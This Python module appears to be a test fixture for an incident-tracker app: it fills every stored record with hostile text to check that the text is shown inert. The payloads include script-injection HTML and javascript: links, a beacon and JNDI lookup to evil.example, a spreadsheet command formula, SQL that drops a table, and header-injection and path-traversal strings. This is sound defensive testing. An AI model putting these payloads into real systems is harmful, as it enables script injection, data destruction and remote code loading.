"""Texts that have broken programs: what every door is tried with, and what a hostile store is filled with."""

from __future__ import annotations

from itertools import count

from tracker import store
from tracker.records import BY_NOUN, RECORD_TYPES, Draft
from tracker.store import Store

TEXTS: dict[str, str] = {
    "HTML": "<b>ZZBOLD</b><script>window.pwned=1</script><img src=x onerror=window.pwned=1>",
    "HTML that closes": "</div></title></textarea></svg><i>ZZITALIC</i><svg onload=window.pwned=1><iframe src=javascript:window.pwned=1>",
    "an image elsewhere": "![ZZIMAGE](https://evil.example/beacon.png)",
    "a Markdown link": "[ZZLINK](javascript:window.pwned=1) **ZZSTRONG** `ZZCODE` _ZZEM_",
    "a link by itself": "javascript:window.pwned=1",
    "an address elsewhere": "https://evil.example/beacon and www.evil.example and eve@evil.example",
    "LaTeX": r"$ZZTEX\href{javascript:alert(1)}{x}$ and $$\frac{pwned}{2}$$",
    "directives": ":red[ZZRED] :material/bomb: :bomb: :violet-background[x] :small[x]",
    "plotly": "<a href='javascript:window.pwned=1'>ZZANCHOR</a><br>%{customdata[0]}<extra></extra>{y}",
    "a formula": '=HYPERLINK("https://evil.example","x")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SQL": "'; DROP TABLE incident; --",
    "a template": "{{7*7}} ${jndi:ldap://evil.example} %s%n {0.__class__}",
    "Markdown lines": "# 4. x -> y -- z >= 1 *a* _b_ ~c~ | t | &lt; &amp;",
    "a long word": "W" * 3_000,
}
"""Texts that a record may hold: they are stored, and shown as they stand."""

STANDING = {
    "ZZBOLD": "<b>", "ZZITALIC": "<i>", "ZZIMAGE": "![", "ZZLINK": "[", "ZZSTRONG": "**", "ZZCODE": "`", "ZZEM": "_",
    "ZZTEX": "$", "ZZRED": ":red[", "ZZANCHOR": "'>",
}  # fmt: skip
"""What stands before each marked word where nothing has read the text as markup."""

MANY_KEYS = ";".join(f"k{number}" for number in range(4_000))

ODD: tuple[str, ...] = (
    "\x00", "a\x00b", "\x01\x02", "\x1b[31m", "a\nb", "a\r\nX-Evil: 1", "\u202eevil", "\u2066x\u2069", "\u200b", "\ufeff",
    "\ufffd", "\ud800", "\udfff", "\U0010ffff", "e\u0301" * 50, "日本", "🤡" * 100,
    "9" * 5_000, "a;" * 3_000, MANY_KEYS, "-1", "1e999", "nan", "inf", "-inf",
    "0001-01-01", "9999-12-31", "0000-01-01", "10000-01-01", "-0001", "Y170000002", "2024-02-30", "2024-13", "20240101",
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2024-01-01T24:00:00Z", "2024-01-01T00:00:00", "2024-W01",
    "2024-01-02/2024-01-01", "2024/", "/2024", "/", "[2022..]", "{2022}", "XXXX", "2023-11~?", "2024-10-XX", "2023-05/..",
    "..", "../..", "..%2f..", "%", "_", "\\", "%00", "true", "TRUE", "0", "None", "null", "[]", "{}",
    "arm", "armenia-azerbaijan", "held", "not assessed", "A",
)  # fmt: skip
"""Texts for an address: control characters, halves of characters, limits, dates that are none, words that are some."""


def fill(opened: Store) -> int:
    """Put hostile texts into every text of every record that is there; how many records took them."""
    texts, turn, drafts = list(TEXTS.values()), count(), list[Draft]()
    with opened.read() as reader:
        rows = [(rt, row["key"]) for rt in RECORD_TYPES for row in reader.rows(rt.live.select().order_by("key"))]
    for record_type, key in rows:
        given = {"key": str(key)}
        for name, cell in record_type.cells.items():
            if cell.kind in {"text", "prose"} and (cell.length or 0) >= 80:
                given[name] = texts[next(turn) % len(texts)][: cell.length]
            elif cell.kind == "url":
                given[name] = f"https://example.org/?a=<script>&b=[x](y)&c={next(turn)}"
        if "unit" in given:
            given["quantity"] = "3"
        draft, problems = BY_NOUN[record_type.noun].draft(given)
        assert problems == [], problems
        drafts.append(draft)
    name = TEXTS["HTML"][:80]
    return store.save(opened, drafts, by=name, why=TEXTS["a Markdown link"], kind="import").updated
